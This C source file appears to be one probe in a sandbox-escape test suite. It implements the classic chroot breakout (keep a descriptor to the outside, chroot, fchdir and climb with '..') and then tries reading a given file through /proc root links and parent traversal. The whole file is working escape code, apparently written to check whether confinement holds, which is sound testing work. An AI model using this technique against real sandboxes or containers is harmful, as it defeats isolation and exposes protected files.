/* SPDX-License-Identifier: MIT */
/*
 * The classic way out: chroot into a subdirectory while a descriptor still
 * names the outside, fchdir, and climb. chroot FILE: reads FILE if it got out.
 */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>

static long read_from(int dir, const char *path)
{
	char buf[256];
	int fd = openat(dir, path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, sizeof(buf));
	if (n > 0)
		fwrite(buf, 1, (size_t)n, stdout);
	return n;
}

int main(int argc, char **argv)
{
	int here = open(".", O_RDONLY | O_DIRECTORY);
	int root = open("/", O_RDONLY | O_DIRECTORY);
	char up[4200];

	if (argc != 2 || here < 0 || root < 0)
		return 2;
	mkdir("sub", 0755);
	report("chroot", chroot("sub"));
	report("fchdir", fchdir(here));
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	report("chroot-dot", chroot("."));
	report("absolute", read_from(AT_FDCWD, argv[1]));
	snprintf(up, sizeof(up), "..%s", argv[1]);
	report("above-root", read_from(root, up));
	snprintf(up, sizeof(up), "/proc/self/root%s", argv[1]);
	report("self-root", read_from(AT_FDCWD, up));
	snprintf(up, sizeof(up), "/proc/1/root%s", argv[1]);
	report("pid1-root", read_from(AT_FDCWD, up));
	snprintf(up, sizeof(up), "/proc/self/task/1/root%s", argv[1]);
	report("task-root", read_from(AT_FDCWD, up));
	snprintf(up, sizeof(up), "/proc/self/cwd/../../..%s", argv[1]);
	report("cwd-up", read_from(AT_FDCWD, up));
	return 0;
}
